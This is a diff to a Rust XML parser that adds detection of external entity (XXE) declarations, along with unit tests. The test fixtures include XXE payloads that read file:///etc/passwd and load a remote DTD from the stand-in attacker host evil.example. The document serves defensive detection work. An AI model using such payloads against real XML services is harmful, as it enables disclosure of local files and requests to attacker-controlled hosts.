@@ -68,7 +68,12 @@ impl<'a> Parser<'a> {
                     None => return false,
                 }
             } else if rest.starts_with(b"<!") {
-                if !self.skip_declaration() {
+                let start = self.i;
+                let closed = self.skip_declaration();
+                if declares_external_entity(&self.s[start..self.i]) {
+                    inputs.flags.set(ParseFlags::XML_EXTERNAL_ENTITY);
+                }
+                if !closed {
                     return false;
                 }
             } else if rest.starts_with(b"</") {
@@ -247,6 +252,19 @@ fn entity_value(entity: &[u8]) -> Option<char> {
     }
 }
 
+/// True when the declaration (a `<!DOCTYPE …>` and its internal subset) declares an entity
+/// whose value comes from outside the document: `<!ENTITY name SYSTEM "uri">`, `<!ENTITY % name
+/// PUBLIC "id" "uri">`.
+fn declares_external_entity(declaration: &[u8]) -> bool {
+    memchr::memmem::find_iter(declaration, b"<!ENTITY").any(|at| {
+        let entity = &declaration[at..];
+        let entity = &entity[..memchr::memchr(b'>', entity).unwrap_or(entity.len())];
+        entity
+            .split(u8::is_ascii_whitespace)
+            .any(|word| word == b"SYSTEM" || word == b"PUBLIC")
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -308,6 +326,26 @@ mod tests {
     fn doctype_and_entities_are_not_expanded() {
         let i = parsed(b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>");
         assert_eq!(text(&i), b"&x;");
+    }
+
+    #[test]
+    fn external_entity_declarations_are_flagged_and_internal_ones_are_not() {
+        for xxe in [
+            &b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"[..],
+            b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>",
+            b"<!DOCTYPE r [<!ENTITY\tx PUBLIC \"-//x\" \"http://evil.example/\">]><r>&x;</r>",
+            b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">",
+        ] {
+            let flags = parsed(xxe).flags;
+            assert!(flags.has(ParseFlags::XML_EXTERNAL_ENTITY), "{:?}", String::from_utf8_lossy(xxe));
+        }
+        for benign in [
+            &b"<!DOCTYPE html><html><p>SYSTEM PUBLIC</p></html>"[..],
+            b"<!DOCTYPE r [<!ENTITY copy \"(c) ACME\">]><r>&copy;</r>",
+            b"<r><note>the SYSTEM entity</note></r>",
+        ] {
+            assert!(!parsed(benign).flags.has(ParseFlags::XML_EXTERNAL_ENTITY));
+        }
     }
 
     #[test]
